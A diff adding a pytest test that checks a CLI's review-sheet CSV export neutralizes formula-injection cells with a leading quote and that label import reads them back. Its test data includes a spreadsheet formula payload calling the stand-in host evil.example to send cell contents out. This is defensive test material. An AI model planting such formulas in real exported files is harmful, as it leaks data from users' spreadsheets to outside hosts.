@@ -5,6 +5,7 @@ directory. One test per hole, each failing without its fix."""
 
 from __future__ import annotations
 
+import csv
 import gzip
 import json
 from datetime import UTC, datetime
@@ -12,6 +13,7 @@ from pathlib import Path
 
 import monitor_synth as synth
 import pytest
+from label_support import TIERS_YAML, write_workload
 from typer.testing import CliRunner
 
 from calibrate.cli.app import app
@@ -272,3 +274,50 @@ def test_a_repeated_json_key_rejects_its_row(tmp_path: Path, whole_files: bool) 
             (2, "duplicate key: attempts: tier appears twice"),
             (2, "duplicate key: column request_id appears twice in the header"),
         ]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_the_review_sheet_neutralizes_formulas_and_labels_import_reads_them_back(
+    tmp_path: Path,
+) -> None:
+    """Cells from the logs that a spreadsheet would run as formulas get a leading quote (OWASP);
+    `labels import` takes it off, so request ids like `=HYPERLINK(…)` still match."""
+    work = write_workload(tmp_path / "logs.jsonl", n=40)
+    rows = [json.loads(line) for line in work.logs.read_text(encoding="utf-8").splitlines()]
+    odd = [*FORMULAS, "'quoted", "\ttab"]
+    for row, text in zip(rows, odd, strict=False):
+        row["request_id"] = row["prompt"] = row["app"] = text.strip()  # import strips ids
+        row["attempts"][0]["output"] = row["reference"] = text
+    work.logs.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+    db, tiers, sheet = tmp_path / "s.duckdb", tmp_path / "tiers.yaml", tmp_path / "review.csv"
+    tiers.write_text(TIERS_YAML, encoding="utf-8")
+    with Store.open(db) as store:
+        ingest(store, [work.logs], strict=False, clock=clock)
+
+    args = ["sample", "--n", "40", "--out", str(sheet), "--tiers", str(tiers), "--db", str(db)]
+    result = runner.invoke(app, args, catch_exceptions=False)
+    assert result.exit_code == 0, result.output
+    with sheet.open(encoding="utf-8", newline="") as fh:
+        cells = list(csv.reader(fh))
+    assert len(cells) == 41
+    assert not [c for row in cells for c in row if c.startswith(("=", "+", "-", "@", "\t"))]
+    written = {row[0] for row in cells}
+    assert {"'" + t for t in odd[:-1]} <= written and "'\ttab" in {row[9] for row in cells}
+
+    filled = [cells[0]] + [row[:-4] + ["1", "0", "ana", "=1+1"] for row in cells[1:]]
+    with (tmp_path / "filled.csv").open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows(filled)
+    args = ["labels", "import", str(tmp_path / "filled.csv"), "--db", str(db)]
+    result = runner.invoke(app, args, catch_exceptions=False)
+    assert result.exit_code == 0, result.output
+    with Store.open(db) as store:
+        labeled = store.con.execute(
+            "SELECT request_id, tier, score FROM labels WHERE source = 'human'"
+        ).fetchall()
+    assert len(labeled) == 80
+    ids = [t.strip() for t in odd]
+    assert {(r, t, s) for r, t, s in labeled if r in ids} == {
+        (text, tier, score) for text in ids for tier, score in (("small", 1.0), ("large", 0.0))
+    }
